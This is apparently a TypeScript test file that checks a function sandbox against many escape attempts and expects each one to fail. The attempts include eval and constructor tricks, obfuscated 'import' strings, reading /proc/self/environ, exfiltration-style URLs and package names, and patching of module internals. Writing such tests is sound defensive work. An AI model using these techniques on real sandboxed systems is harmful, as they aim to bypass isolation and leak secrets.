/** Modules at run time, by every way to load them. */
import { alone, gets, type Hostile, rejected } from "../hostile.ts";

/** Ways to compile text, in scripts that do not name what they use. */
const MAKERS: Readonly<Record<string, string>> = {
  "eval": `eval(text)`,
  "indirect eval": `(0, eval)(text)`,
  "Function": `Function("return " + text)()`,
  "new Function": `new Function("return " + text)()`,
  "a function's constructor": `(() => {}).constructor("return " + text)()`,
  "an async function's constructor": `(async () => {}).constructor("return " + text)()`,
  "a generator's constructor": `(function* () {}).constructor("return " + text)().next().value`,
  "an async generator's constructor":
    `(async function* () {}).constructor("return " + text)().next().then((r: any) => r.value)`,
  "an inherited constructor":
    `Object.getPrototypeOf((async () => {}).constructor)("return " + text)()`,
  "Reflect.construct": `Reflect.construct(Function, ["return " + text])()`,
  "another's new.target": `Reflect.construct(Object, ["return " + text], (() => {}).constructor)`,
  "a subclass of Function": `new (class extends Function {})("return " + text)()`,
  "getBuiltinModule": `(globalThis as any)["pro" + "cess"]["getBuiltin" + "Module"]("sqlite")`,
  "the accessor of process":
    `Object.getOwnPropertyDescriptor(globalThis, "pro" + "cess")!.get!.call(globalThis).getBuiltinModule("sqlite")`,
};

/** Errors of the others: no code, or no such method. */
const OTHERWISE: Readonly<Record<string, string>> = {
  "another's new.target": "Error: no module",
  "getBuiltinModule": "TypeError: globalThis.process.getBuiltinModule is not a function",
  "the accessor of process":
    "TypeError: Object.getOwnPropertyDescriptor(...).get.call(...).getBuiltinModule is not a function",
};

function made(way: string, expression: string): Hostile {
  return rejected(
    `code from text by ${way}`,
    `const text: any = ["im", "port('node:sq", "lite')"].join(""); const got = await ${expression};
    if (!got || !("DatabaseSync" in got)) throw new Error("no module"); return Object.keys(got);`,
    OTHERWISE[way] ?? 'TypeError: TypeError: Module "node:sqlite" is not available in a function',
  );
}

export const IMPORTS = [
  ...Object.entries(MAKERS).map(([way, expression]) => made(way, expression)),
  rejected(
    "a file as text",
    `return (await load("file://" + input.file, { with: { type: "text" } })).default;`,
    "TypeError: TypeError: Module ",
  ),
  rejected(
    "a file as bytes",
    `return (await load("file://" + input.file, { with: { type: "bytes" } })).default;`,
    "TypeError: TypeError: Module ",
  ),
  rejected(
    "a file as JSON",
    `return (await load("file://" + input.file, { with: { type: "json" } })).default;`,
    "TypeError: TypeError: Module ",
  ),
  rejected(
    "a file by case",
    `return (await load("FILE://" + input.file, { with: { type: "text" } })).default;`,
    "TypeError: TypeError: Module ",
  ),
  rejected(
    "a file by a relative path",
    `return (await load("./proc/self/environ", { with: { type: "text" } })).default;`,
    'TypeError: TypeError: Module "./proc/self/environ" is not available in a function',
  ),
  rejected(
    "a file within data",
    `return (await load("data:application/javascript," + encodeURIComponent("import x from 'file://" + input.file + "' with { type: 'text' }; export default x"))).default;`,
    'TypeError: TypeError: Module "data:application/javascript,',
  ),
  rejected(
    "data",
    `return (await load("data:application/javascript,export default 1")).default;`,
    'TypeError: TypeError: Module "data:application/javascript,export default 1" is not available in a function',
  ),
  rejected(
    "a blob",
    `return (await load(URL.createObjectURL(new Blob(["export default 1"], { type: "application/javascript" })))).default;`,
    'TypeError: TypeError: Module "',
  ),
  rejected(
    "https",
    `return Object.keys(await load("https://127.0.0.1:" + input.port + "/exfil?d=secret"));`,
    'TypeError: TypeError: Module "https://',
  ),
  rejected(
    "http",
    `return Object.keys(await load("http://127.0.0.1:" + input.port + "/x.js"));`,
    'TypeError: TypeError: Module "http://',
  ),
  rejected(
    "npm",
    `return Object.keys(await load("npm:exfil-secret-data@1.0.0"));`,
    'TypeError: TypeError: Module "npm:exfil-secret-data@1.0.0" is not available in a function',
  ),
  rejected(
    "jsr",
    `return Object.keys(await load("jsr:@exfil/secret@1"));`,
    'TypeError: TypeError: Module "jsr:@exfil/secret@1" is not available in a function',
  ),
  rejected(
    "ext",
    `return Object.keys(await load("ext:core/ops"));`,
    'TypeError: TypeError: Module "ext:core/ops" is not available in a function',
  ),
  rejected(
    "a shim of the runtime",
    `return Object.keys(await load("invoked:module"));`,
    'TypeError: TypeError: Module "invoked:module" is not available in a function',
  ),
  rejected(
    "the bootstrap",
    `return Object.keys(await load("file:///bootstrap.ts"));`,
    'TypeError: TypeError: Module "file:///bootstrap.ts" is not available in a function',
  ),
  rejected(
    "the main module",
    `return Object.keys(await load(Deno.mainModule));`,
    'TypeError: TypeError: Module "file:///main.js" is not available in a function',
  ),
  rejected(
    "sqlite",
    `return Object.keys(await import("node:sqlite"));`,
    'TypeError: TypeError: Module "node:sqlite" is not available in a function',
  ),
  rejected(
    "sqlite required",
    `return Object.keys(req("node:sqlite"));`,
    'TypeError: Module "node:sqlite" is not available in a function',
  ),
  rejected(
    "sqlite required bare",
    `return Object.keys(req("sqlite"));`,
    'TypeError: Module "sqlite" is not available in a function',
  ),
  rejected(
    "sqlite by Module._load",
    `return Object.keys(req("module")._load("node:sqlite"));`,
    'TypeError: Module "node:sqlite" is not available in a function',
  ),
  alone(rejected(
    "sqlite by _resolveFilename",
    `req("module")._resolveFilename = () => "node:sqlite"; return Object.keys(req("node:fs"));`,
    'TypeError: Module "node:sqlite" is not available in a function',
  )),
  alone(rejected(
    "sqlite by _resolveFilename, bare",
    `req("module")._resolveFilename = () => "sqlite"; return Object.keys(req("fs"));`,
    'TypeError: Module "node:sqlite" is not available in a function',
  )),
  alone(rejected(
    "sqlite inside a resolve",
    `const M = req("module"); let got: any; const was = M._resolveLookupPaths; M._resolveLookupPaths = function () { got ??= Object.keys(M._load("node:sqlite")); return was.apply(this, arguments); }; try { req("./x"); } catch {} if (!got) throw new Error("nothing"); return got;`,
    "Error: nothing",
  )),
  rejected(
    "sqlite by _compile",
    `const M = req("module"); const m = new M("x"); m._compile("module.exports = require('node:sqlite')", "/x.js"); return Object.keys(m.exports);`,
    'TypeError: Module "node:sqlite" is not available in a function',
  ),
  rejected(
    "sqlite by a hook of its own",
    `req("module").registerHooks({ resolve: (s: string) => ({ url: s, shortCircuit: true }) }); return Object.keys(await import("node:sqlite"));`,
    "TypeError: req(...).registerHooks is not a function",
  ),
  rejected(
    "hooks by import",
    `return ((await load("node:module")) as any).registerHooks.name;`,
    "TypeError: Cannot read properties of undefined (reading 'name')",
  ),
  rejected(
    "hooks by register",
    `return (req("module") as any).register("data:text/javascript,1");`,
    "TypeError: req(...).register is not a function",
  ),
  rejected(
    "getBuiltinModule by process",
    `return Object.keys((process as any).getBuiltinModule("node:sqlite"));`,
    "TypeError: process.getBuiltinModule is not a function",
  ),
  rejected(
    "getBuiltinModule by node:process",
    `return Object.keys((await load("node:process")).getBuiltinModule("node:sqlite"));`,
    "TypeError: (intermediate value).getBuiltinModule is not a function",
  ),
  rejected(
    "getBuiltinModule by node:module",
    `return Object.keys((await load("node:module")).getBuiltinModule("node:sqlite"));`,
    "TypeError: (intermediate value).getBuiltinModule is not a function",
  ),
  rejected(
    "getBuiltinModule by require",
    `return Object.keys(req("process").getBuiltinModule("node:sqlite"));`,
    "TypeError: req(...).getBuiltinModule is not a function",
  ),
  rejected(
    "process.binding",
    `return Object.keys((process as any).binding("fs"));`,
    "TypeError: process.binding is not a function",
  ),
  rejected(
    "WASI",
    `return Object.keys(await import("node:wasi"));`,
    'TypeError: TypeError: Module "node:wasi" is not available in a function',
  ),
  rejected(
    "a REPL",
    `return Object.keys(await import("node:repl"));`,
    'TypeError: TypeError: Module "node:repl" is not available in a function',
  ),
  rejected(
    "by a vm",
    `const vm = await import("node:vm"); return Object.keys(await vm.runInThisContext("import('node:sqlite')", { importModuleDynamically: (vm.constants as any).USE_MAIN_CONTEXT_DEFAULT_LOADER }));`,
    'TypeError: TypeError: Module "node:sqlite" is not available in a function',
  ),
  rejected(
    "by another context of a vm",
    `const vm = await import("node:vm"); return Object.keys(await vm.runInNewContext("import('node:sqlite')"));`,
    "TypeError: A dynamic import callback was not specified.",
  ),
  rejected(
    "by a SourceTextModule",
    `const vm: any = await import("node:vm"); const m = new vm.SourceTextModule("export default await import('node:sqlite')");
    await m.link(() => {}); await m.evaluate(); return Object.keys(m.namespace.default);`,
    "TypeError: A dynamic import callback was not specified.",
  ),
  rejected(
    "by the linker of a SourceTextModule",
    `const vm: any = await import("node:vm"); const m = new vm.SourceTextModule("import { DatabaseSync } from 'node:sqlite';");
    await m.link((specifier: string) => load(specifier)); await m.evaluate(); return "linked";`,
    'TypeError: TypeError: Module "node:sqlite" is not available in a function',
  ),
  gets(
    "names of built-ins as paths",
    `let got = 0; for (const s of ["node:sqlite/", "node:SQLITE", " node:sqlite", "node:sqlite?x", "node:sqlite#x", "node:/sqlite", "node:./sqlite", "node:%73qlite"]) { try { if ("DatabaseSync" in await load(s)) got++; } catch {} } return got;`,
    "0",
  ),
];
